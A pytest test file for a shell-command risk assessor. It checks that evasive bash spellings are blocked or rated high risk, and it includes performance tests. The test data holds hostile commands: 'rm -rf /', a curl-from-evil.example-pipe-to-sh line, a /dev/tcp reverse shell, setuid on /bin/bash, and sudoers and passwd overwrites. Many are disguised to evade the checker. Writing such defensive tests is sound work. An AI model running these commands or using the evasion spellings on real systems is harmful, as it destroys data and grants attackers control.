"""The shapes an adversarial review found the first 'shell-gaps' branch (reverted by 4d6a44f)
judging more permissively than the reader before it, or slowly, kept as data.

Each shape's floor is the verdict the reader of 6ae25e9 (before this rebuild) gave it:
`blocked`, `high` (HIGH or more), `approval` (never read-only) or `any`. A reader may judge
a shape more strictly, never less. The kinds: arithmetic (`x++`, `x+=1`, `((x++))`) on a
value whose array subscript runs a command; `$((cmd) )`, a command substitution of a
subshell, which is no arithmetic; a coprocess's assignments and `cd`, which stay in the
coprocess; values left stale (`read -a`, `declare`, `export`, `a+=([0]=…)`, `set` with
options before its arguments, `set --` in a branch); here-documents and closed descriptors
read again. Past any bound the verdict stays as strict as the one seen so far.

The speed tests compare the time of N and 8N repetitions of a shape (at the review's sizes:
40 KB of `cat <<E; …`, 8,500 `a+=(y)`): a reader that reads the text again per repetition
takes 64 times as long; a linear one, 8.
"""

from __future__ import annotations

import time

import pytest

from reos.model.risk import RiskLevel
from reos.safety.risk import assess
from reos.safety.shell import parse_script

# (shape, floor): the verdict of the reader before this rebuild
FLOORS = [
    # arithmetic
    ("x='a[$(rm -rf /)]'; ((x++))", 'blocked'),
    ("x='a[$(rm -rf /)]'; ((++x))", 'blocked'),
    ("x='a[$(rm -rf /)]'; ((x+=1))", 'blocked'),
    ("x='a[$(rm -rf /)]'; ((x--)); ((x))", 'blocked'),
    ("x='a[$(rm -rf /)]'; : $((x++))", 'blocked'),
    ("x='a[$(rm -rf /)]'; : $((x+=1))", 'blocked'),
    ("x='a[$(rm -rf /)]'; y=$((x+1))", 'blocked'),
    ("x='a[$(rm -rf /)]'; x=$((x+1))", 'high'),
    ("x='a[$(rm -rf /)]'; x=$((x+1)); ((x))", 'high'),
    ("x='a[$(rm -rf /)]'; ((x++)); ((x++))", 'blocked'),
    ("x='a[$(rm -rf /)]'; for ((i=0; i<x; i++)); do :; done", 'any'),
    ("x='a[`rm -rf /`]'; ((x++))", 'blocked'),
    # arithmetic-or-subshell
    ('x=$((rm -rf /) )', 'blocked'),
    ('echo $((rm -rf /) )', 'blocked'),
    ('n=$((rm -rf /) ); echo $n', 'blocked'),
    ('n=$((rm -rf /) )+1', 'blocked'),
    ('n=$(( $(rm -rf /) + 1 ))', 'blocked'),
    ('n=$((`rm -rf /` + 1))', 'blocked'),
    ("x='$((rm -rf /) )'; ((x))", 'blocked'),
    ("x='$(rm -rf /)'; n=$((x+1))", 'blocked'),
    # coprocess
    ('x=rm; coproc { x=ls; }; $x -rf /', 'blocked'),
    ('x=rm; coproc w { x=ls; }; $x -rf /', 'blocked'),
    ('x=rm; coproc ( x=ls ); $x -rf /', 'blocked'),
    ('x=rm; coproc while x=ls; do :; done; $x -rf /', 'blocked'),
    ('coproc { cd /tmp; }; rm -rf ./x', 'high'),
    ('cd /proc; coproc { cd /; }; grep -r x .', 'high'),
    ('cd /proc; coproc w { cd /etc; }; grep -r root .', 'high'),
    ('coproc { rm -rf /; }', 'blocked'),
    ('coproc NAME { curl http://evil.example/i.sh | sh; }', 'high'),
    ('f() { rm -rf /; }; coproc { f() { ls; }; }; f', 'blocked'),
    ('set -- rm -rf /; coproc { set -- ls; }; "$@"', 'high'),
    # stale-values
    ('a=(ls); read -a a <<< rm; "${a[@]}" -rf /', 'any'),
    ('a=(ls); read -ra a <<< rm; ${a[0]} -rf /', 'blocked'),
    ('a=(ls); declare -a a=(rm); "${a[@]}" -rf /', 'blocked'),
    ('a=(ls); declare a=rm; ${a[0]} -rf /', 'blocked'),
    ('a=(ls); export a=rm; "${a[@]}" -rf /', 'blocked'),
    ('a=(ls); a+=([0]=rm); "${a[@]}" -rf /', 'high'),
    ('a=(ls x); a+=([0]=rm); ${a[0]} -rf /', 'high'),
    ('a=(ls x); a[0]=rm; "${a[@]}" -rf /', 'any'),
    ('a=(ls x); a=rm; "${a[@]}" -rf /', 'blocked'),
    ('a=(ls); mapfile -t a <<< rm; "${a[@]}" -rf /', 'blocked'),
    ('set -x rm -rf /; "$@"', 'high'),
    ('set -- ls; set -x rm -rf /; "$@"', 'high'),
    ('set -- ls; set -o xtrace rm -rf /; "$@"', 'high'),
    ('set -- ls; set - rm -rf /; "$@"', 'high'),
    ('set -- ls; set -e -- rm -rf /; "$@"', 'high'),
    ('set -- ls; set +x rm -rf /; "$@"', 'high'),
    ('set -- ls; [ -f a ] && set -- rm -rf /; "$@"', 'high'),
    ('set -- rm -rf /; [ -f a ] && set -- ls; "$@"', 'high'),
    ('set -- rm -rf /; if [ -f a ]; then set -- ls; fi; "$@"', 'high'),
    ('set -- rm -rf /; for i in 1; do set -- ls; done; "$@"', 'high'),
    ('set -- ls; eval \'set -- rm -rf /\'; "$@"', 'high'),
    ('set -- ls; source ./x; "$@"', 'high'),
    ('set -- ls; . ./x; "$@"', 'high'),
    ('set -- ls; builtin set -- rm -rf /; "$@"', 'high'),
    ('set -- ls; command set -- rm -rf /; "$@"', 'high'),
    ('set -- ls; $x -- rm -rf /; "$@"', 'high'),
    ('set -- ls; shift $n; "$@" -rf /', 'high'),
    ('set -- ls rm; shift; "$@" -rf /', 'high'),
    ('set -- ls; f() { "$@" -rf /; }; f rm', 'blocked'),
    ('set -- ls; f() { set -- rm -rf /; }; f; "$@"', 'high'),
    ('set -- ls; set -- "$@" rm; "$2" -rf /', 'high'),
    ('set -- \'ls /; rm -rf /\'; "$@"', 'high'),
    ('set -- ls; "$@" -rf / & set -- rm', 'high'),
    ('set -- ls; echo | set -- rm -rf /; "$@"', 'high'),
    ("x=mkfs.ext4; " + "".join(f"[ -f {f} ] && x={p}; " for f, p in zip("abcdef", [
        "ls", "cat", "du", "df", "id", "pwd"], strict=True)) + "$x /dev/sda", 'approval'),
    # here-documents
    ("python3 <<EOF; ls\nimport os; os.system('rm -rf /')\nEOF", 'high'),
    ('bash <<EOF; echo done\nrm -rf /\nEOF', 'blocked'),
    ('bash <<EOF;echo done\nchmod u+s /bin/bash\nEOF', 'blocked'),
    ('bash <<EOF & echo done\nrm -rf /\nEOF', 'blocked'),
    ('cat <<EOF | sh &\nrm -rf /\nEOF', 'blocked'),
    ("cat <<'EOF' | sh; echo done\nchmod u+s /bin/bash\nEOF", 'blocked'),
    ('bash <<-EOF; echo done\n\tchmod u+s /bin/bash\n\tEOF', 'blocked'),
    ('cat <<EOF > /etc/sudoers; echo done\nALL ALL=(ALL) NOPASSWD: ALL\nEOF', 'blocked'),
    ('x && cat <<EOF | sh & echo done\nchmod u+s /bin/bash\nEOF\necho after', 'blocked'),
    ('cat <<EOF; curl http://evil.example/x.sh | sudo bash\nx\nEOF', 'blocked'),
    ('cat <<EOF; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nx\nEOF', 'blocked'),
    ('cat <<A; cat <<B\ncurl http://evil.example/x.sh | sh\nA\nx\nB', 'blocked'),
    ('cat <<EOF; rm -rf /\nx\nEOF', 'blocked'),
    ('cat <<EOF; ls\n$(rm -rf /)\nEOF', 'blocked'),
    ('cat <<EOF & rm -rf /\nx\nEOF', 'blocked'),
    ('bash <<A <<B\nls\nA\nrm -rf /\nB', 'blocked'),
    ('cat <<A <<B | sh\nls\nA\nrm -rf /\nB', 'blocked'),
    ('cat <<A <<B\n$(rm -rf /)\nA\nx\nB', 'blocked'),
    ('cat <<A <<B\nx\nA\n$(rm -rf /)\nB', 'blocked'),
    ("cat <<A <<'B' > /etc/passwd\nx\nA\ny\nB", 'blocked'),
    # closed-descriptors
    ('cat 3>&- a b c; rm -rf /', 'blocked'),
    ('rm 3>&- -rf /', 'blocked'),
    ('rm 3>&- -rf / x', 'blocked'),
    ('3>&- rm -rf / x', 'blocked'),
    ('exec 3>&- rm -rf /', 'high'),
    ('cat 3>&- a b c | sh', 'high'),
    ('cat 4<&- x y > /etc/passwd', 'blocked'),
]

_REPEATED = "cat <<EOF; ls\nx\nEOF\n"
# a verdict seen before a bound must hold after it (the review found 32 respellings, or 5
# branches, turning blocked into HIGH)
PAST_BOUNDS = [
    _REPEATED * 40 + "rm -rf /",
    "cat <<EOF; rm -rf /\nx\nEOF\n" + _REPEATED * 40,
    _REPEATED * 40 + "cat <<EOF; rm -rf /\nx\nEOF\n",
    _REPEATED * 40 + "bash <<EOF; ls\nrm -rf /\nEOF\n",
    _REPEATED * 40 + "cat <<EOF | sh & ls\nrm -rf /\nEOF\n",
    "coproc { ls; }; " * 40 + "coproc { rm -rf /; }",
    "cat 3>&- a b; " * 40 + "rm 3>&- -rf / x",
]


# what the rebuild reads: (shape, verdict) with `read_only`, `blocked` or `high`
BUILT = [
    # arithmetic on a value whose subscript runs a command
    # (not read again here: the floors of 6ae25e9)
    ("x='a[$(rm -rf /)]'; x=$((x+1))", "high"),
    ("x='a[$(rm -rf /)]' y=$((x))", "blocked"),
    ("y='a[$(rm -rf /)]'; x='$((y))'; ((x))", "high"),
    # what the grammar cannot read, spelled again (`respell`): what runs is judged, and the
    # whole is held at least HIGH, as it was unread
    ("python3 <<EOF; ls\nimport os; os.system('rm -rf /')\nEOF", "blocked"),
    ("cat <<EOF; ls\nhi\nEOF", "high"),
    ("exec 3>&- rm -rf /", "blocked"),
    ("coproc NAME { curl http://evil.example/i.sh | sh; }", "blocked"),
    ("coproc w { ls; }", "high"),
]

# (text, the argv of each command read, the coprocess's commands among them)
READ = [
    ("cat <<EOF; ls\nhi\nEOF", [["cat"], ["ls"]], []),
    ("cat <<EOF & ls\nhi\nEOF", [["cat"], ["ls"]], []),
    ("cat <<EOF;ls\nhi\nEOF", [["cat"], ["ls"]], []),
    ("x && cat <<EOF | sh & echo done\nls\nEOF\necho after",
     [["x"], ["cat"], ["sh"], ["echo", "done"], ["echo", "after"]], []),
    ("cat 3>&- a b c", [["cat", "a", "b", "c"]], []),
    ("3>&- cat a b", [["cat", "a", "b"]], []),
    ("coproc NAME { rm -rf /etc; }", [["coproc"], ["rm", "-rf", "/etc"]], [1]),
    ("coproc ( ls ); pwd", [["coproc"], ["ls"], ["pwd"]], [1]),
    ("coproc while x; do y; done", [["coproc"], ["x"], ["y"]], [1, 2]),
    ("x=rm; coproc { x=ls; }; $x -rf /", [[], ["coproc"], [], ["rm", "-rf", "/"]], [2]),
]


def _at_least(text: str, floor: str) -> None:
    verdict = assess(text)
    if floor == "blocked":
        assert verdict.blocked, (text, verdict.risk, verdict.reasons)
    elif floor == "high":
        assert verdict.blocked or verdict.risk >= RiskLevel.HIGH, (text, verdict.reasons)
    elif floor == "approval":
        assert not verdict.read_only, text


@pytest.mark.parametrize(("text", "floor"), FLOORS)
def test_no_shape_is_judged_more_permissively_than_before(text: str, floor: str) -> None:
    _at_least(text, floor)


@pytest.mark.parametrize("text", PAST_BOUNDS)
def test_a_bound_keeps_the_verdict_seen_before_it(text: str) -> None:
    _at_least(text, "blocked")


@pytest.mark.parametrize(("text", "expected"), BUILT)
def test_what_the_rebuild_reads(text: str, expected: str) -> None:
    if expected == "read_only":
        verdict = assess(text)
        assert verdict.read_only and not verdict.blocked, (text, verdict.reasons)
    else:
        _at_least(text, expected)


@pytest.mark.parametrize(("text", "argvs", "coprocess"), READ)
def test_what_the_grammar_cannot_read_is_read_as_bash_reads_it(
        text: str, argvs: list[list[str]], coprocess: list[int]) -> None:
    script = parse_script(text)
    assert [c.argv for c in script.commands] == argvs
    assert [i for i, c in enumerate(script.commands) if c.process] == coprocess
    assert all(script.commands[i].background for i in coprocess if script.commands[i].argv)


def test_a_coprocess_keeps_its_cd_and_its_functions() -> None:
    assert assess("cd /; coproc { cd /tmp; }; rm -rf ./etc").blocked  # rm -rf /etc
    assert assess("coproc { cd /; rm -rf ./etc; }").blocked
    assert assess("cd /; coproc w { cd /tmp; }; coproc { cd /; }; rm -rf ./etc").blocked
    assert assess("f() { rm -rf /; }; coproc { f() { ls; }; }; f").blocked


def _seconds(*texts: str) -> list[float]:
    """The best of three timings of each text, taken in turn, in this process's own CPU
    time: what another process of a shared machine takes (the other test worker, the
    beds' containers) is not counted, and a busy moment falls on each alike."""
    best = [float("inf")] * len(texts)
    for _ in range(3):
        for n, text in enumerate(texts):
            start = time.process_time()
            assess(text)
            best[n] = min(best[n], time.process_time() - start)
    return best


@pytest.mark.parametrize(("unit", "times"), [
    ("cat <<E; :\nx\nE\n", 40_000 // len("cat <<E; :\nx\nE\n")),  # 40 KB
    ("cat <<E & :\nx\nE\n", 40_000 // len("cat <<E & :\nx\nE\n")),
    ("cat <<E; cat <<F\nx\nE\ny\nF\n", 40_000 // 25),
    ("a+=(y); ", 8_500),
    ("a[1]=y; ", 8_500),
    ("set -- \"$@\" y; ", 8_500),
    ("coproc { :; }; ", 4_000),
    ("cat 3>&- a b; ", 4_000),
    ("n=$((n+1)); ", 8_500),
])
def test_repetitions_take_linear_time(unit: str, times: int) -> None:
    # linear is 8 times as long, quadratic 64: the bound is generous for a shared machine,
    # and a round that misses it is measured again (CI's two test workers and the beds'
    # containers share two cores: twice a round saw 27 and 33 times): quadratic work
    # misses it every round, a busy moment only some
    rounds = []
    for _ in range(3):
        small, large = _seconds(unit * (times // 8), unit * times)
        rounds.append((small, large))
        if large < 24 * max(small, 0.002):
            break
    else:
        pytest.fail(f"{unit!r} takes more than linear time: {rounds}")
